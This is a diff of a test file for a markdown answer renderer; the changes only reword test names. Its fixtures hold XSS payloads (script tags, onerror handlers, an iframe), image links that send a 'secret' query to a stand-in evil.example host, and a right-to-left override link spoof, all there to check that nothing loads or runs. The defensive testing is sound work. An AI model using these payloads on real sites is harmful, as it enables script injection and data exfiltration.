@@ -22,24 +22,24 @@ test('draws headings, lists, tables and code, with raised numbers at citations',
   expect(place.textContent).not.toContain('[^');
 });
 
-test('marks sentences without support in words', () => {
+test('marks a sentence without a supporting source by a text', () => {
   expect(drawn('It rains in June.[^?] It is wet.').querySelector('.answer-unsupported')).not.toBeNull();
 });
 
-test('markers in code stay code', () => {
+test('citation markers in code are drawn as code', () => {
   expect(drawn('Use `a[^1]` here.').querySelector('code')?.textContent).toBe('a[^1]');
 });
 
-/** Every element that a browser loads something for, runs, or sends a form with. */
+/** Elements that load a resource, run code or send a form. */
 const LOADING =
   'img, picture, video, audio, source, iframe, frame, object, embed, link, script, style, form, svg, base, meta';
 
 test.each([
   ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
   ['a script in a table', '| a |\n| --- |\n| <iframe src="https://evil.example"></iframe> |'],
-  ['a picture of a stranger’s server', '![](https://evil.example/?q=secret) ![x](//evil.example/p.png)'],
-  ['a picture of this workspace', '![alt](image:0swq1a2b3c)'],
-  ['a reference picture', '![x][1]\n\n[1]: https://evil.example/p.png'],
+  ['an image of another server', '![](https://evil.example/?q=secret) ![x](//evil.example/p.png)'],
+  ['an image of this workspace', '![alt](image:0swq1a2b3c)'],
+  ['a reference-style image', '![x][1]\n\n[1]: https://evil.example/p.png'],
   ['HTML in code', '```html\n<script src="https://evil.example"></script>\n```'],
 ])('%s loads and runs nothing', (_, text) => {
   const place = drawn(text);
@@ -75,16 +75,16 @@ test.each([
   expect(link.getAttribute('referrerpolicy')).toBe('no-referrer');
 });
 
-test('text that turns around is shown in its own direction', () => {
+test('the host of a link is shown from left to right, also after a right-to-left override in its text', () => {
   expect(drawn('[a\u202emoc.knab](https://evil.example)').querySelector('bdi')?.dir).toBe('ltr');
 });
 
-test('half of a marker or table at the end of a growing text is harmless', () => {
+test('an incomplete marker or table at the end of a streamed text is drawn', () => {
   for (const text of ['Text [^', 'Text [^1', '| a | b |\n| --', '```js\nconst', '**bold'])
     expect(drawn(text).textContent).not.toBe('');
 });
 
-test('a formula is readable before it is drawn, in its own words', () => {
+test('a formula is shown as its TeX source until it is drawn', () => {
   const place = drawn('So $a_1 + b_1$.\n\n$$\nx^2\n$$');
   expect([...place.querySelectorAll('.answer-formula')].map((formula) => formula.textContent)).toEqual([
     '$a_1 + b_1$',
@@ -128,7 +128,7 @@ test.each([
   );
 });
 
-test('sizes of a formula reach only so far', () => {
+test('limits the sizes in a formula', () => {
   const host = document.createElement('span');
   expect(drawFormula(host, '\\rule{9999em}{9999em}', false)).toBe(true);
   const sizes = [...host.querySelectorAll<HTMLElement>('[style]')].flatMap(({ style }) =>
